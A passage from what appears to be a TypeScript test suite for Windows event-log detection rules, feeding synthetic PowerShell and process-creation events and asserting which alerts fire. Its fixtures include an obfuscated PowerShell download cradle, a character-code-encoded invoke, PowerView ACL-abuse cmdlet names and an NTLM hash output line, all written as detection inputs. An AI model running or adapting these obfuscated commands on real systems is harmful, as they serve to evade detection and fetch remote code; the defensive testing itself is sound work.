    const alias = win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: 'CommandInvocation(Set-Alias): "Set-Alias"\nParameterBinding(Set-Alias): name="Name"; value="Add-ObjectAcl"\nParameterBinding(Set-Alias): name="Value"; value="Add-DomainObjectAcl"' });
    expect(hits(alias).has(`${ACL} (module logging 4103)`)).toBe(false);
    const sessionFunction = win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: 'CommandInvocation(New-Object): "New-Object"\nParameterBinding(New-Object): name="TypeName"; value="System.Management.Automation.Runspaces.SessionStateFunctionEntry"\nParameterBinding(New-Object): name="ArgumentList"; value="Add-DomainObjectAcl, param($TargetIdentity) ..."' });
    expect(hits(sessionFunction).has(`${ACL} (module logging 4103)`)).toBe(false);
    const output = win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: 'CommandInvocation(Write-Output): "Write-Output"\nParameterBinding(Write-Output): name="InputObject"; value="Hash NTLM: 31d6cfe0d16ae931b33f3c59d7e0c089"' });
    expect(hits(output).has('Script Block Credits Authors Of Public Offensive PowerShell Modules (module logging 4103)')).toBe(false);
  });
  it('the SYSTEM browser rule also reads Security 4688, where the creator is SYSTEM', () => {
    const created = (sid: string): Ev => sec(4688, { SubjectUserSid: sid, SubjectUserName: sid === 'S-1-5-18' ? 'WS01$' : 'alice', SubjectDomainName: 'CORP', NewProcessName: CHROME, CommandLine: `"${CHROME}" https://go.microsoft.com/fwlink/?LinkID=145`, ParentProcessName: `${S32}msiexec.exe` });
    expect(hits(created('S-1-5-18')).get('Web Browser Started As SYSTEM')?.level).toBe('high');
    expect(hits(created('S-1-5-21-1-2-3-1104')).has('Web Browser Started As SYSTEM')).toBe(false);
    // A DCOM launch: the DCOM launcher (SYSTEM) creates the browser for the calling user.
    const dcom = sec(4688, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', TargetUserSid: 'S-1-5-21-1-2-3-1104', TargetUserName: 'alice', NewProcessName: 'C:\\Program Files\\Internet Explorer\\iexplore.exe', CommandLine: '"C:\\Program Files\\Internet Explorer\\iexplore.exe" -Embedding', ParentProcessName: `${S32}svchost.exe` });
    expect(hits(dcom).has('Web Browser Started As SYSTEM')).toBe(false);
  });
  it('the WerFault and CompatTelRunner child rules also read Security 4688, which logs no parent command line', () => {
    const created = (image: string, parent: string): Ev => sec(4688, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', NewProcessName: image, CommandLine: image, ParentProcessName: parent });
    expect(hits(created('C:\\Users\\Public\\mon.exe', `${S32}WerFault.exe`)).get('Program Started By WerFault For A Silent Process Exit')?.level).toBe('high');
    expect(hits(created('C:\\Program Files\\Microsoft Visual Studio\\vsjitdebugger.exe', `${S32}WerFault.exe`)).has('Program Started By WerFault For A Silent Process Exit')).toBe(false);
    expect(hits(created('C:\\Users\\Public\\a.exe', `${S32}CompatTelRunner.exe`)).get('Compatibility Telemetry Task Starts An Unexpected Program')?.level).toBe('medium');
    expect(hits(created(`${S32}DeviceCensus.exe`, `${S32}CompatTelRunner.exe`)).has('Compatibility Telemetry Task Starts An Unexpected Program')).toBe(false);
  });
  it('the obfuscation rule reads backticks inside words and runs of character codes as well', () => {
    const OBF = 'PowerShell Obfuscated With Backticks In Words, Character Codes Or Reordered Format Strings (script block 4104)';
    expect(hits(script('(N`e`W-o`B`j`e`c`T N`e`T.W`e`B`C`l`i`e`N`T).d`o`w`N`l`o`A`d`S`T`R`i`N`g($u)')).has(OBF)).toBe(true);
    expect(hits(script('$c = [char]73+[char]69+[char]88; & ([string]::join("", ([char[]](105,101,120)))) $p')).has(OBF)).toBe(true);
    expect(hits(script('$sep = [char]44; $tab = [char]9; "a{0}b" -f $sep')).has(OBF)).toBe(false);
  });
});
